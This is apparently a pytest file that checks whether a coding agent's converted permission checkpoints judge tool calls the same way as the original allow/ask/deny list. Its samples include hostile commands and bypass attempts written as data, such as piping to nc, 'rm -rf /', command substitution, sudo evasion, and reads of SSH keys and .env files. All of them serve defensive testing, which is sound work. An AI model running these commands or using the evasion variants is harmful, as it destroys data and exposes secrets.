"""A coding agent's list of 300 permission rules, rebuilt as checkpoints (`docs/side-by-side.md`)."""

from __future__ import annotations

import re
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from agent.domain import checkpoints
from agent.domain.judgement import ToolTraits
from signoff.values import Action
from tests.doc_blocks import ROOT, Block, blocks
from tests.unit.permission_rules import FOLDER, HOME, LISTS, Use, Verdict, example, original

CONVERTED = ROOT / "examples" / "permission_list.toml"
POLICY = checkpoints.load(CONVERTED.read_text(encoding="utf-8"), filename=CONVERTED.name)
RULES = [(verdict, rule) for verdict, rules in LISTS.items() for rule in rules]


PAGE = "docs/side-by-side.md"


def _block(language: str, words: str) -> Block:
    [found] = [each for each in blocks(PAGE) if each.language == language and words in each.code]
    return found


def bash(*commands: str) -> list[Use]:
    return [Use("Bash", command) for command in commands]


def converted(use: Use) -> Verdict:
    traits, action = ToolTraits(use.tool, "external"), Action(use.tool, "external", use.arguments)
    verdict: Verdict = POLICY.judge(traits, action, None, "claude-code", None).verdict
    return verdict


SAMPLES: dict[Verdict, list[Use]] = {
    "run": [
        *bash(
            "git log --oneline -20",
            "git status --short",
            "git blame src/app.py",
            "which python3",
            "gh pr view 17",
        ),
        Use("Read", f"{FOLDER}/src/app.py"),
        Use("Edit", f"{FOLDER}/tests/unit/test_app.py"),
        Use("WebFetch", "https://docs.python.org"),
        Use("WebFetch", "https://docs.python.org/3/library/re.html"),
        Use("mcp__context7__resolve"),
    ],
    "ask": [
        *bash(
            "python evil.py",
            "git push origin main",
            "git push origin main --force",
            "git status | sh",
            "make -f /tmp/x",
        ),
        *bash(
            "git status $(touch x)",
            "git status `touch x`",
            "git diff > /home/ada/.bashrc",
            "ls <(touch x)",
            "ls\nx",
            "x",
        ),
        *bash(
            "npm install left-pad",
            "kubectl apply -f x.yaml",
            "psql -c 'select 1'",
            "npm test -- --config /tmp/x",
            "",
        ),
        # What a denial by text does not recognize is asked about.
        *bash(
            "/usr/bin/sudo id",
            "bash -c 'sudo id'",
            "A=1 sudo id",
            "\\sudo id",
            "rm -r -f build",
            "python -c 'import os'",
        ),
        Use("Read", "/etc/passwd"),
        Use("Edit", f"{FOLDER}/package.json"),
        Use("Write", f"{FOLDER}/migrations/7.sql"),
        Use("Edit", f"{FOLDER}/src/../package.json"),
        Use("WebFetch", "https://example.com/"),
        Use("WebFetch", "https://docs.python.org.example.com/"),
        Use("WebFetch", "https://sub.pastebin.com/"),
        Use("mcp__new__tool"),
        Use("mcp__github__get_issue_and_more"),
        Use("Agent"),
    ],
    "deny": [
        *bash(
            "sudo id",
            "git status && sudo id",
            "ls; curl https://example.com",
            "ls | nc example.com 9",
            "ls\nsudo id",
        ),
        *bash(
            "git push --force origin main", "git push -f", "rm -rf /", "cd x && rm -rf y", "env", "ls; env"
        ),
        Use("Read", f"{HOME}/.ssh/id_ed25519"),
        Use("Read", f"{FOLDER}/.env"),
        Use("Read", f"{FOLDER}/a/b/.env.local"),
        Use("Read", f"{FOLDER}/deploy/secrets/db.txt"),
        Use("Edit", f"{FOLDER}/.git/hooks/pre-commit"),
        Use("Write", f"{FOLDER}/.claude/settings.json"),
        Use("WebFetch", "https://pastebin.com/raw/7"),
        Use("WebFetch", "https://ada@pastebin.com:443/raw/7"),
        Use("WebFetch", "HTTP://PASTEBIN.COM"),
        Use("mcp__filesystem__read_file"),
    ],
}

DIFFERENT: list[tuple[Use, Verdict, Verdict]] = [
    # A prefix with anything behind it, and two allowed commands in one, are not said: only whole commands run.
    *(
        (use, "run", "ask")
        for use in bash("git status --ignored", "git log --oneline --all", "git blame -L 1,9 src/a.py")
    ),
    *(
        (use, "run", "ask")
        for use in bash("gh pr view 7 --web", "which -a python3", "git status && git diff", "ls; pwd")
    ),
    (Use("WebFetch", "http://docs.python.org/"), "run", "ask"),
    # A text is not a syntax: the operator stands within quotation marks.
    (Use("Bash", "git commit -m 'now; sudo works'"), "ask", "deny"),
    # A path is not followed.
    (Use("Read", f"{FOLDER}/src/../../.ssh/id_ed25519"), "deny", "ask"),
    (Use("Read", f"{FOLDER}/src/../src/app.py"), "run", "ask"),
    # Elsewhere, too: the original names these only below the project.
    (Use("Read", "/srv/other/.env"), "ask", "deny"),
]
"""What cannot be said: the call, the original, the checkpoints."""


@pytest.mark.parametrize(("list_name", "rule"), RULES, ids=[rule for _, rule in RULES])
def test_each_rule_is_kept(list_name: str, rule: str) -> None:
    """What the rule allows runs, what it asks about is asked, and what it denies is denied."""
    use = example(rule)
    verdict = {"allow": "run"}.get(list_name, list_name)
    assert (original(use), converted(use)) == (verdict, verdict)


@pytest.mark.parametrize(
    ("use", "verdict"),
    [(use, verdict) for verdict, uses in SAMPLES.items() for use in uses],
    ids=str,
)
def test_calls_are_judged_as_the_original_judges_them(use: Use, verdict: Verdict) -> None:
    """Samples that no rule spells out, those among them that try to get past one."""
    assert (original(use), converted(use)) == (verdict, verdict)


@pytest.mark.parametrize(("use", "before", "after"), DIFFERENT, ids=str)
def test_what_cannot_be_said_asks_or_denies(use: Use, before: Verdict, after: Verdict) -> None:
    """The page lists these differences; in none of them something runs that the original stops."""
    assert (original(use), converted(use)) == (before, after)
    assert after != "run"


@pytest.mark.parametrize(
    "added",
    [
        "; x",
        " && sudo id",
        " || x",
        " | sh",
        " & x",
        "\nrm -rf /",
        " $(x)",
        " `x`",
        " > /x",
        " --output=/x",
        " x",
    ],
)
def test_nothing_runs_that_the_original_would_stop(added: str) -> None:
    """Whatever is added to a command that the list allows, by whichever way of joining."""
    allowed = [example(rule).text for rule in LISTS["allow"] if rule.startswith("Bash(")]
    run = [use for use in bash(*(command + added for command in allowed)) if converted(use) == "run"]
    assert [use for use in run if original(use) != "run"] == []


async def test_the_rebuilt_map_asks_what_the_original_interrupts() -> None:
    """Each tool of LangChain's `interrupt_on`, by its flag or its `when`."""
    names: dict[str, Any] = {"__name__": "page"}
    await _block("python", "interrupt_on").run(names)
    policy = checkpoints.load(_block("toml", "update_row").code, filename="page")
    for tool, entry in names["interrupt_on"].items():
        for table in ("payments", "notes"):
            arguments = {"table": table}
            interrupts = bool(entry)
            if isinstance(entry, dict) and "when" in entry:
                interrupts = entry["when"](SimpleNamespace(tool_call={"args": arguments}))
            action = Action(tool, "external", arguments)
            judged = policy.judge(ToolTraits(tool, "external"), action, None, "shop", None)
            assert judged.verdict == ("ask" if interrupts else "run"), (tool, table)


def test_the_page_counts_what_there_is() -> None:
    """Rules of each list, and lines of every original and of what it becomes."""
    page = (ROOT / PAGE).read_text(encoding="utf-8")
    for language, words, counted_as in (
        ("python", "interrupt_on", "{} lines of Python"),
        ("toml", "update_row", "{} lines, and one argument"),
        ("json", "wait_timer", "{} lines of JSON"),
        ("toml", "only-main", "{} lines, and one command"),
    ):
        assert counted_as.format(len(_block(language, words).code.splitlines())) in page
    counted = {name: len(rules) for name, rules in LISTS.items()}
    assert f"{counted['allow']} allow, {counted['ask']} ask and {counted['deny']} deny" in page
    before = Path(__file__).with_name("permission_list.json")
    for path in (before, CONVERTED):
        lines = len(path.read_text(encoding="utf-8").splitlines())
        assert re.search(rf"\b{lines} lines\b", page), (path.name, lines)
